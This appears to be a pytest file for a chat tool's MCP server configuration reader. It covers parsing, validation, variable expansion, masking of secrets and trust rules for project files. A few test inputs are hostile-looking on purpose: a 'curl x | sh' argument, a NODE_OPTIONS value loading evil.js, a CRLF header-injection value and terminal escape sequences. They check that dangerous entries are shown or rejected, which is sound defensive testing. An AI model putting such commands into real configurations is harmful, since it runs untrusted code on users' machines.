"""Files of MCP servers as other programs write them."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from livechat.core.text import visible
from livechat.errors import SettingsError
from livechat.tools import builtin, local_spec
from livechat.tools.mcp.config import (
    OWN_NAMES,
    Found,
    Server,
    lets_through,
    parsed,
    read,
    read_bytes,
    view,
    wrong_with,
)

FILE = Path("/home/u/mcp.json")

ENVIRON = {"TOKEN": "geheim-12345", "EMPTY": "", "NAME": "ada"}


def found(entry: object, *, own: bool = True, name: str = "s", **top: object) -> Found:
    """Return what a file with one server holds."""
    data = json.dumps({"mcpServers": {name: entry}, **top}).encode()
    return read(data, FILE, ENVIRON, own=own)


def server(entry: object, **more: Any) -> Server:
    """Return the server of a file in which nothing is wrong."""
    held = found(entry, **more)
    assert held.notices == ()
    [one] = held.servers
    return one


def wrong(entry: object, **more: Any) -> str:
    """Return why a server is left out."""
    held = found(entry, **more)
    assert held.servers == ()
    [notice] = held.notices
    begin = f'{FILE}: skipped the server "s". '
    assert notice.startswith(begin)
    return notice.removeprefix(begin)


def test_a_program_as_claude_desktop_writes_it() -> None:
    one = server({"command": "npx", "args": ["-y", "x"], "env": {"K": "v"}, "cwd": "/srv"})
    assert one.spec() == {
        "name": "s",
        "kind": "stdio",
        "command": "npx",
        "args": ["-y", "x"],
        "env": {"K": "v"},
        "cwd": "/srv",
        "url": "",
        "headers": {},
        "timeout_s": None,
        "include": None,
        "exclude": [],
    }


@pytest.mark.parametrize(
    "entry",
    [
        {"url": "https://h/mcp"},  # Cursor
        {"type": "http", "url": "https://h/mcp"},  # Claude Code, VS Code
        {"type": "streamable-http", "url": "https://h/mcp"},  # Roo
        {"type": "streamableHttp", "url": "https://h/mcp"},  # Cline
        {"httpUrl": "https://h/mcp"},  # gemini-cli
        {"httpUrl": "https://h/mcp", "url": "https://h/sse"},
        {"serverUrl": "https://h/mcp"},  # Windsurf
        {"transport": "http", "url": "https://h/mcp"},
    ],
)
def test_an_address_in_every_spelling(entry: dict[str, object]) -> None:
    one = server(entry)
    assert (one.kind, one.url) == ("http", "https://h/mcp")


@pytest.mark.parametrize(
    "entry",
    [
        {"type": "stdio", "command": "x"},
        {"type": "local", "command": "x"},
        {"command": ["x"]},
        {"command": "x", "url": ""},
    ],
)
def test_a_program_in_every_spelling(entry: dict[str, object]) -> None:
    one = server(entry)
    assert (one.kind, one.command, one.args) == ("stdio", "x", ())


def test_a_command_that_is_a_list_begins_with_the_program() -> None:
    one = server({"command": ["uvx", "time"], "args": ["--utc"]})
    assert (one.command, one.args) == ("uvx", ("time", "--utc"))


def test_vs_code_calls_the_servers_servers() -> None:
    data = json.dumps({"servers": {"s": {"command": "x"}}, "inputs": []}).encode()
    [one] = read(data, FILE, {}, own=True).servers
    assert one.command == "x"


def test_variables_are_filled_in_wherever_text_stands() -> None:
    one = server(
        {
            "command": "${BIN:-/usr/bin}/x",
            "args": ["--name=${NAME}", "${env:NAME}", "$NAME", "costs $5", "${EMPTY:-none}"],
            "env": {"T": "${TOKEN}", "E": "${EMPTY}", "N": 3, "B": True},
            "cwd": "/srv/${NAME}",
        }
    )
    assert one.command == "/usr/bin/x"
    assert one.args == ("--name=ada", "ada", "ada", "costs $5", "none")
    assert one.env == {"T": "geheim-12345", "E": "", "N": "3", "B": "true"}
    assert one.cwd == "/srv/ada"


def test_variables_stand_in_addresses_and_headers_too() -> None:
    entry = {"url": "https://${NAME}.h/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}}
    one = server(entry)
    assert one.url == "https://ada.h/mcp"
    assert one.headers == {"Authorization": "Bearer geheim-12345"}


def test_a_missing_variable_leaves_out_that_server_only() -> None:
    entries = {"a": {"command": "x", "env": {"K": "${GONE}"}}, "b": {"command": "y"}}
    held = read(json.dumps({"mcpServers": entries}).encode(), FILE, {}, own=True)
    assert [one.name for one in held.servers] == ["b"]
    assert held.notices == (
        f'{FILE}: skipped the server "a". The environment variable GONE is not set. '
        "Set it: export GONE=…",
    )


def test_nothing_that_is_secret_is_shown() -> None:
    entry = {
        "command": "x",
        "args": ["--as", "${NAME}"],
        "env": {"API_KEY": "plain-secret", "PASS": "${TOKEN}", "MODE": "a b"},
    }
    one = server(entry)
    assert one.shown == "x --as ${NAME}"
    assert one.carries == ("API_KEY=…", "PASS=${TOKEN}", "MODE=a b")
    for secret in ("plain-secret", "geheim-12345"):
        assert secret not in repr(one)
    web = server({"url": "https://u:pw1@h/mcp?key=abc12345", "headers": {"X-Key": "plain-secret"}})
    assert web.carries == ("X-Key: …",)
    assert web.shown == "https://…@h/mcp?key=…"
    assert "plain-secret" not in repr(web)


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        (3, "It is not an object."),
        ({}, 'It has neither "command" nor "url".'),
        (
            {"command": "x", "url": "http://h"},
            'It has both "command" and "url": say which by "type".',
        ),
        ({"type": "stdio", "url": "http://h"}, 'It has no "command".'),
        ({"type": "http", "command": "x"}, 'It has no "url".'),
        (
            {"type": "sse", "url": "http://h/sse"},
            'The transport "sse" is not supported. '
            "Ask for its address for streamable HTTP, often ending in /mcp.",
        ),
        (
            {"type": "ws", "url": "ws://h"},
            'The transport "ws" is not supported. '
            "Ask for its address for streamable HTTP, often ending in /mcp.",
        ),
        ({"type": "pigeon", "url": "http://h"}, 'Its type "pigeon" is not known.'),
        ({"type": 3}, 'Its "type" is not a text.'),
        ({"command": 3}, 'Its "command" is not a text.'),
        ({"command": "x", "args": "y"}, 'Its "args" is not a list of texts.'),
        ({"command": "x", "args": [["y"]]}, 'Its "args" is not a list of texts.'),
        ({"command": "x", "env": ["A=b"]}, 'Its "env" is not an object of texts.'),
        ({"command": "x", "env": {"A=": "b"}}, 'Its "env" has a name that no variable can have.'),
        ({"command": "x\0"}, 'Its "command" holds a character that no program takes.'),
        ({"command": "x", "timeout": "long"}, 'Its "timeout" is not a number of milliseconds.'),
        ({"command": "x", "timeout": -1}, 'Its "timeout" is not a number of milliseconds.'),
        ({"command": "x", "timeout": True}, 'Its "timeout" is not a number of milliseconds.'),
        ({"url": "ftp://h"}, 'Its "url" is not an http or https address.'),
        ({"url": "http://"}, 'Its "url" is not an http or https address.'),
        ({"url": "http://h:port/"}, 'Its "url" is not an http or https address.'),
        ({"url": "http://h/\x1b[2J"}, 'Its "url" is not an http or https address.'),
        (
            {"url": "http://h", "headers": {"a b": "c"}},
            "One of its headers has a name that cannot be sent.",
        ),
        (
            {"url": "http://h", "headers": {"A": "b\r\nC: d"}},
            "The header A contains characters that no header can carry.",
        ),
        (
            {"command": "${input:key}"},
            'Its "command" asks for ${input:key}, which is unknown here. '
            "Write ${VARIABLE} or ${VARIABLE:-default}.",
        ),
    ],
)
def test_what_is_wrong_is_said_and_costs_that_server(entry: object, words: str) -> None:
    assert wrong(entry) == words


@pytest.mark.parametrize("name", ["", " ", "n" * 65, "a\x1b[2J"])
def test_a_name_must_be_one_that_can_be_shown(name: str) -> None:
    held = found({"command": "x"}, name=name)
    assert held.servers == ()
    assert "A name has 1 to 64 visible characters." in held.notices[0]
    assert held.notices[0].isprintable()


def test_timeouts_are_milliseconds() -> None:
    assert server({"command": "x", "timeout": 45_000}).timeout_s == 45
    assert server({"command": "x", "timeout": 1e12}).timeout_s == 24 * 3600


def test_a_timeout_that_was_meant_in_seconds_is_said() -> None:
    held = found({"command": "x", "timeout": 30})
    assert held.servers[0].timeout_s == 1
    assert held.notices == (f'{FILE}: "s": "timeout" is in milliseconds: 30 counts as 1 s.',)


def test_unknown_keys_are_said_and_cost_nothing() -> None:
    held = found({"command": "x", "alwaysAllow": ["a"], "autoApprove": [], "description": "d"})
    assert [one.command for one in held.servers] == ["x"]
    assert held.notices == (f'{FILE}: "s": ignored alwaysAllow, autoApprove.',)


def test_what_is_switched_off_is_no_server() -> None:
    for off in ({"disabled": True}, {"enabled": False}):
        held = found({"command": "x", **off})
        assert (held.servers, held.notices, held.disabled) == ((), (), ("s",))


def test_trust_is_the_users_to_give() -> None:
    assert server({"command": "x", "trust": True}).trust
    held = found({"command": "x", "trust": True}, own=False)
    assert not held.servers[0].trust
    assert held.notices == (f'{FILE}: "s": "trust" is ignored in a project\'s file.',)


@pytest.mark.parametrize(
    ("name", "include", "exclude", "through"),
    [
        ("read", None, [], True),
        ("read", ["read"], [], True),
        ("reader", ["read"], [], False),
        ("read_file", ["read_*"], [], True),
        ("read_file", ["*"], ["*_file"], False),
        ("read", ["read"], ["read"], False),
        ("run", ["run(git status)"], [], True),
        ("a.b", ["a?b"], [], False),
        ("read", [], [], False),
    ],
)
def test_patterns_choose_functions(
    name: str, include: list[str] | None, exclude: list[str], through: bool
) -> None:
    assert lets_through(name, include, exclude) is through


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('{"mcpServers": {\n  "a": }}', "is not valid JSON, line 2, column 8: Expecting value."),
        (
            "{\n // hello\n}",
            "line 2, column 2: Expecting property name enclosed in double quotes. "
            "Comments are not allowed.",
        ),
        ('{"a": 1,\n}', "Remove the comma before it."),
        ("[]", "is not a JSON object. It begins:"),
        ('{"a": NaN}', "NaN is no number"),
        ("[" * 100_000, "is not valid JSON"),
    ],
)
def test_a_file_that_is_no_json_names_line_and_column(text: str, words: str) -> None:
    with pytest.raises(SettingsError) as caught:
        parsed(text.encode(), FILE)
    assert words in str(caught.value)


def test_a_file_in_utf_16_is_read() -> None:
    text = json.dumps({"mcpServers": {"ä": {"command": "x"}}}, ensure_ascii=False)
    for data in (text.encode("utf-16"), b"\xef\xbb\xbf" + text.encode()):
        assert [one.name for one in read(data, FILE, {}, own=True).servers] == ["ä"]


def test_servers_without_the_key_above_them_are_said() -> None:
    with pytest.raises(SettingsError, match='has no "mcpServers"'):
        read(b'{"time": {"command": "uvx"}}', FILE, {}, own=True)
    assert read(b"{}", FILE, {}, own=True) == Found()
    assert read(b"", FILE, {}, own=True) == Found()
    with pytest.raises(SettingsError, match="is not an object of servers"):
        read(b'{"mcpServers": []}', FILE, {}, own=True)


def test_a_file_is_read_once_and_only_if_it_is_one(tmp_path: Path) -> None:
    path = tmp_path / "mcp.json"
    assert read_bytes(path) is None
    path.write_bytes(b"{}")
    assert read_bytes(path) == b"{}"
    path.write_bytes(b" " * ((1 << 20) + 1))
    with pytest.raises(SettingsError, match="larger than 1 MiB"):
        read_bytes(path)
    with pytest.raises(SettingsError, match="Cannot read"):
        read_bytes(tmp_path)


@pytest.mark.skipif(os.name != "posix", reason="pipes and permissions of POSIX")
def test_a_pipe_of_that_name_holds_nobody(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "mcp.json")
    with pytest.raises(SettingsError, match="it is not a file"):
        read_bytes(tmp_path / "mcp.json")


@pytest.mark.skipif(os.name != "posix", reason="permissions of POSIX")
def test_a_file_that_others_can_change_is_not_used(tmp_path: Path) -> None:
    path = tmp_path / "mcp.json"
    path.write_bytes(b"{}")
    path.chmod(0o666)
    with pytest.raises(SettingsError, match="other users can change it"):
        read_bytes(path, only_mine=True)


def test_a_view_shows_all_that_runs_and_nothing_secret() -> None:
    one = view(
        "a\x1b",
        {
            "command": "sh",
            "args": ["-c", "curl x | sh; \x1b[2J", "it's"],
            "env": {"KEY": "abc", "NODE_OPTIONS": "--require ./evil.js"},
            "cwd": "/tmp/\x07",
        },
    )
    assert one.name == "a␛"
    assert one.shown == """sh -c 'curl x | sh; ␛[2J' 'it'"'"'s'"""
    assert one.carries == ("KEY=…", "NODE_OPTIONS=--require ./evil.js")
    assert one.cwd == "/tmp/␇"


def test_what_is_wrong_with_an_entry_does_not_depend_on_variables() -> None:
    assert wrong_with("s", {"command": "x", "env": {"A": "${A}"}}, FILE) == ""
    assert wrong_with("s", {"type": "http", "url": "https://${H}/x"}, FILE) == ""
    assert wrong_with("s", {"url": "nowhere"}, FILE).startswith('Its "url"')


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.floats(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["command", "args", "env", "url", "headers", "type", "timeout", "trust", "x"]
            )
            | st.text(max_size=3),
            inner,
            max_size=6,
        )
    ),
    max_leaves=20,
)


@settings(max_examples=50)
@given(st.dictionaries(st.text(max_size=5), ANYTHING, max_size=4))
def test_whatever_a_file_holds_each_server_is_used_or_said(entries: dict[str, object]) -> None:
    text = json.dumps({"mcpServers": entries}).replace("NaN", "1").replace("Infinity", "1")
    held = read(text.encode(), FILE, ENVIRON, own=True)
    left_out = [one for one in held.notices if "skipped the server" in one]
    assert len(held.servers) + len(held.disabled) + len(left_out) == len(entries)
    for one in held.servers:
        json.dumps(one.spec())
    for name, entry in entries.items():
        shown = view(name, entry).shown
        assert shown == visible(shown)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Bearer ${TOKEN}", "Bearer ${TOKEN}"),
        ("$TOKEN", "$TOKEN"),
        ("geheim ${TOKEN} ${env:NAME}", "… ${TOKEN} ${env:NAME}"),
        ("${TOKEN:-geheim}", "… ${TOKEN}"),
        ("geheim", "…"),
    ],
)
def test_a_header_shows_which_variables_it_sends_and_no_credential(value: str, shown: str) -> None:
    """Whoever approves a project's file must see it."""
    entry = {"url": "https://h/mcp", "headers": {"X-Key": value}}
    assert view("s", entry).carries == (f"X-Key: {shown}",)
    assert server(entry).carries == (f"X-Key: {shown}",)


@pytest.mark.parametrize("name", ["GEMINI_API_KEY", "LIVECHAT_API_KEY", "env:GOOGLE_API_KEY"])
def test_a_project_gets_no_credential_of_livechat(name: str) -> None:
    """Whoever writes it into their own file means it."""
    entry = {"command": "x", "env": {"A": f"${{{name}}}"}}
    data = json.dumps({"mcpServers": {"s": entry}}).encode()
    environ = {name.removeprefix("env:"): "geheim-12345"}
    held = read(data, FILE, environ, own=False)
    assert held.servers == ()
    assert "gives to no project" in held.notices[0]
    [mine] = read(data, FILE, environ, own=True).servers
    assert mine.env == {"A": "geheim-12345"}


def test_no_server_goes_under_a_name_of_livechats_own() -> None:
    """Patterns, and leave for a whole server, mean others by it."""
    assert {*OWN_NAMES} == {builtin.SERVER, local_spec.SERVER}
    for name in OWN_NAMES:
        held = found({"command": "x"}, name=name)
        assert held.servers == ()
        assert "livechat uses that name itself" in held.notices[0]
